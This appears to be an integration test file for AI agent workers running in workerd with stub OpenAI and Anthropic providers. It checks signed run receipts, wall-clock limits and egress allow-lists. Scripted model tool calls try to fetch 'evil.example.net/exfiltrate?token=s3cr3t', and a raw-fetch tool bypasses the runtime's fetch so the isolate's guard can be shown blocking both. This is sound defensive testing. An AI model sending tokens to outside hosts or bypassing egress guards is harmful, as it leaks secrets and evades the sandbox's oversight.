/**
 * Agentic leaf agents compiled for Workers, running in workerd behind their loader. The model
 * providers are scripted stubs on 127.0.0.1 speaking the real wire formats (OpenAI chat
 * completions, Anthropic messages) with tool calls; workerd reaches them only through the egress
 * policy: the runtime's egress-checked fetch inside the isolate, the isolate's egress guard (the
 * global fetch of tool code), then the loader's egress gateway (`globalOutbound`), then the host's
 * outbound, which the test routes to loopback.
 */
import { TaskState } from '@a2a-js/sdk';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  startScriptedProvider,
  startServer,
  type StubServer,
} from '../../plugin/runtime/__test-support__/stub-provider';
import { generateReceiptKeyPair, verifyReceipt } from '../../plugin/runtime/receipts';
import { askWithSdk } from './support/a2a-client';
import { compileWorker, exampleWorkspace, type ExampleWorkspace } from './support/example-workspace';
import { startCompiledWorker, type StartedWorker } from './support/start-compiled-worker';

const OPENAI_KEY = 'sk-test-openai-0123456789abcdefXYZ';
const ANTHROPIC_KEY = 'sk-ant-test-0123456789abcdefXYZ';
const ARCHIVED_PAGE = 'https://web.archive.org/web/2026/https://example.com/changelog';

let ws: ExampleWorkspace;
let keys: { privateJwk: JsonWebKey; publicJwk: JsonWebKey };
let pages: StubServer;
const cleanups: (() => Promise<unknown>)[] = [];

beforeAll(async () => {
  ws = exampleWorkspace('agentic');
  keys = await generateReceiptKeyPair();
  pages = await startServer((request, res) => {
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    res.end(
      `<html><head><title>Changelog &amp; notes</title><script>secret()</script></head><body><h1>Release 2.0</h1><p>Adds <b>dark mode</b>.</p><!-- ${request.path} --></body></html>`,
    );
  });
  cleanups.push(() => pages.close());
  // A tool that bypasses the runtime's egress-checked fetch, to show the platform gateway blocks too.
  ws.write(
    'examples/tools/raw-fetch.ts',
    'export async function rawFetch(args: Record<string, unknown>) {\n  const response = await fetch(String(args.url));\n  return { status: response.status, egress: response.headers.get("x-agentdef-egress") };\n}\n',
  );
  const tools = JSON.parse(ws.read('tools.json')) as { tools: Record<string, unknown> };
  tools.tools['raw-fetch'] = { module: './examples/tools/raw-fetch.ts', export: 'rawFetch' };
  ws.write('tools.json', JSON.stringify(tools, null, 2));
});
afterAll(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
  ws.remove();
});

type Script = Parameters<typeof startScriptedProvider>[0]['script'];

async function startSummarizer(
  script: Script,
  options: { slug?: string; mode?: 'loader' | 'direct' } = {},
): Promise<{ worker: StartedWorker; provider: StubServer }> {
  const provider = await startScriptedProvider({ wire: 'openai-chat', apiKey: OPENAI_KEY, script });
  cleanups.push(() => provider.close());
  const compiled = await compileWorker(ws.root, options.slug ?? 'web-summarizer');
  expect(compiled.result.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
  const worker = await startCompiledWorker(compiled.outDir, {
    ...(options.mode ? { mode: options.mode } : {}),
    secrets: { OPENAI_API_KEY: OPENAI_KEY, AGENTDEF_RECEIPT_KEY: JSON.stringify(keys.privateJwk) },
    upstreams: { 'https://api.openai.com': provider.url, 'https://web.archive.org': pages.url },
  });
  cleanups.push(() => worker.dispose());
  return { worker, provider };
}

describe('web-summarizer (frontier OpenAI pin, a fetch tool) in workerd', () => {
  it('answers the SDK client: the model calls fetch_page on a declared endpoint, then summarises it', async () => {
    const { worker, provider } = await startSummarizer([
      { toolCalls: [{ name: 'fetch_page', arguments: { url: ARCHIVED_PAGE } }] },
      {
        text: (ctx) =>
          `Summary of "${JSON.parse(ctx.lastToolResults[0]!).title}": ${JSON.parse(ctx.lastToolResults[0]!).text.replace(/\n/g, ' ')}`,
      },
    ]);
    const answer = await askWithSdk(worker.url, `summarize ${ARCHIVED_PAGE} for a release manager`);
    expect(answer.card.name).toBe('Web summarizer');
    expect(answer.state).toBe(TaskState.TASK_STATE_COMPLETED);
    expect(answer.text).toBe('Summary of "Changelog & notes": Release 2.0 Adds dark mode .');
    // The key came from the secret binding; the model name and sampling from the pin.
    expect(provider.requests).toHaveLength(2);
    expect(provider.requests[0]!.headers['authorization']).toBe(`Bearer ${OPENAI_KEY}`);
    expect(provider.requests[0]!.body).toMatchObject({ model: 'gpt-5-2025-08-07', temperature: 0.3 });
    expect(provider.requests[0]!.body.tools.map((t: { function: { name: string } }) => t.function.name)).toEqual([
      'fetch_page',
    ]);
    // Everything left through the host's outbound, to declared origins only.
    expect(worker.outbound.map((o) => `${o.method} ${new URL(o.url).origin}`)).toEqual([
      'POST https://api.openai.com',
      'GET https://web.archive.org',
      'POST https://api.openai.com',
    ]);
    const receipts = await worker.receipts(1);
    expect(receipts).toHaveLength(1);
    expect(receipts[0]).toMatchObject({
      runId: answer.taskId,
      pinning: { card: 'web-summarizer', cardVersion: '2.0.0', skill: 'web.summarize', skillVersion: '2.0.0' },
      lifecycleState: 'kym-registered',
      agenticGate: 'agentic',
      outcome: { stopReason: 'answer', status: 'answer' },
      toolCalls: [{ seq: 1, name: 'fetch_page', ok: true }],
      models: [{ role: 'primary', providerId: 'openai', model: 'gpt-5-2025-08-07', modelVersion: '2025-08-07' }],
      signature: { alg: 'Ed25519', kid: 'keyref:acme-agents' },
    });
    expect(await verifyReceipt(receipts[0], keys.publicJwk)).toBe(true);
    const everything = worker.logs.join('') + JSON.stringify(receipts) + answer.text;
    expect(everything).not.toContain(OPENAI_KEY);
    expect(everything).not.toContain(keys.privateJwk.d!);
  });

  it('blocks a fetch of an undeclared host inside the isolate: the tool fails with egress_blocked and nothing leaves', async () => {
    const { worker } = await startSummarizer([
      { toolCalls: [{ name: 'fetch_page', arguments: { url: 'https://evil.example.net/exfiltrate?token=s3cr3t' } }] },
      { text: (ctx) => `tool said: ${ctx.lastToolResults[0]}` },
    ]);
    const answer = await askWithSdk(worker.url, 'summarize https://evil.example.net/exfiltrate');
    expect(answer.state).toBe(TaskState.TASK_STATE_COMPLETED);
    expect(answer.text).toContain('egress_blocked');
    expect(answer.text).toContain('evil.example.net');
    expect(answer.text).not.toContain('s3cr3t');
    expect(worker.outbound.some((o) => o.url.includes('evil.example.net'))).toBe(false);
    const logged = worker.logs.join('');
    expect(logged).toContain('"event":"egress.blocked"');
    expect(logged).toContain('"host":"evil.example.net"');
    expect(logged).not.toContain('s3cr3t');
    const receipts = await worker.receipts(1);
    expect(receipts).toHaveLength(1);
    expect(receipts[0]!.toolCalls).toEqual([{ seq: 1, name: 'fetch_page', ok: false, errorCode: 'egress_blocked' }]);
    expect(await verifyReceipt(receipts[0], keys.publicJwk)).toBe(true);
  });

  it("blocks code that bypasses the runtime's fetch: the isolate's egress guard refuses it before the loader's gateway would see it", async () => {
    ws.edit('web-summarizer', (d) => {
      d.toolInventory.push({
        id: 'raw-fetch',
        name: 'raw_fetch',
        version: '1.0.0',
        provenance: 'skill-package',
        risk: 'high',
        description: 'Fetches with the global fetch.',
      });
    });
    const { worker } = await startSummarizer([
      {
        toolCalls: [
          { name: 'raw_fetch', arguments: { url: 'https://evil.example.net/' } },
          { name: 'raw_fetch', arguments: { url: ARCHIVED_PAGE } },
        ],
      },
      { text: (ctx) => ctx.lastToolResults.join(' | ') },
    ]);
    const answer = await askWithSdk(worker.url, 'probe the network');
    expect(answer.text).toBe(
      '{"error":"egress_blocked: evil.example.net is not on this agent\'s egress allow-list"} | {"status":200,"egress":null}',
    );
    expect(worker.outbound.map((o) => new URL(o.url).host)).toEqual([
      'api.openai.com',
      'web.archive.org',
      'api.openai.com',
    ]);
  });

  it('stops a run whose provider hangs at wallClockMs, says why, and still leaves one signed receipt', async () => {
    ws.edit('web-summarizer', (d) => {
      d.runtimeRequirements.limits.wallClockMs = 1500;
    });
    const { worker, provider } = await startSummarizer([{ hang: true }]);
    const started = Date.now();
    const answer = await askWithSdk(worker.url, `summarize ${ARCHIVED_PAGE}`);
    const elapsed = Date.now() - started;
    expect(answer.state).toBe(TaskState.TASK_STATE_FAILED);
    expect(answer.metadata['stopReason']).toBe('limit:wallClock');
    expect(answer.text).toContain('limit:wallClock');
    // The provider never answers: the run ending at all, with limit:wallClock, is the limit at work.
    expect(elapsed).toBeGreaterThanOrEqual(1400);
    expect(provider.requests).toHaveLength(1);
    const receipts = await worker.receipts(1);
    expect(receipts).toHaveLength(1);
    expect(receipts[0]!.outcome).toEqual({ stopReason: 'limit:wallClock', status: 'limit' });
    expect(await verifyReceipt(receipts[0], keys.publicJwk)).toBe(true);
  });
});

describe('fallback-writer (small Anthropic pin, the diff tool) in workerd', () => {
  it('calls the Anthropic messages API with tool use and applies the diff in the Worker', async () => {
    const provider = await startScriptedProvider({
      wire: 'anthropic-messages',
      apiKey: ANTHROPIC_KEY,
      script: [
        {
          toolCalls: [
            {
              name: 'apply_unified_diff',
              arguments: { source: 'a\nb\nc\n', diff: '--- a/f\n+++ b/f\n@@ -1,3 +1,3 @@\n a\n-b\n+B\n c\n' },
            },
          ],
        },
        { text: (ctx) => ctx.lastToolResults[0]! },
      ],
    });
    cleanups.push(() => provider.close());
    const compiled = await compileWorker(ws.root, 'fallback-writer');
    expect(compiled.result.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
    const worker = await startCompiledWorker(compiled.outDir, {
      secrets: { ANTHROPIC_API_KEY: ANTHROPIC_KEY, AGENTDEF_RECEIPT_KEY: JSON.stringify(keys.privateJwk) },
      upstreams: { 'https://api.anthropic.com': provider.url },
    });
    cleanups.push(() => worker.dispose());
    const answer = await askWithSdk(
      worker.url,
      JSON.stringify({ path: 'f', source: 'a\nb\nc\n', instruction: 'uppercase b' }),
    );
    expect(answer.state).toBe(TaskState.TASK_STATE_COMPLETED);
    expect(JSON.parse(answer.text)).toEqual({ applied: true, result: 'a\nB\nc\n', hunks: 1 });
    expect(provider.requests[0]!.headers['x-api-key']).toBe(ANTHROPIC_KEY);
    expect(provider.requests[0]!.body).toMatchObject({ model: 'claude-haiku-4-5-20251001', max_tokens: 2048 });
    const receipts = await worker.receipts(1);
    expect(receipts.map((r) => [r.pinning.card, r.toolCalls])).toEqual([
      ['fallback-writer', [{ seq: 1, name: 'apply_unified_diff', ok: true }]],
    ]);
    expect(await verifyReceipt(receipts[0], keys.publicJwk)).toBe(true);
  });
});
